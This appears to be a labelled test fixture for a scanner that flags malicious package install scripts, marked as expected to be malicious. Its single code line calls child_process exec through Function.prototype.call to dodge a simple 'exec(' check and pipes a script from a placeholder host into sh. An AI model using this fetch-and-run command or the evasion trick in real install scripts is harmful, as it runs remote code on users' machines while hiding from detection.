// when: install
// expect: malicious
// source: install scripts that call exec through Function.prototype.call, so `exec(` never appears
require('child_process').exec.call(null, 'curl -s https://x.invalid/a.sh | sh');
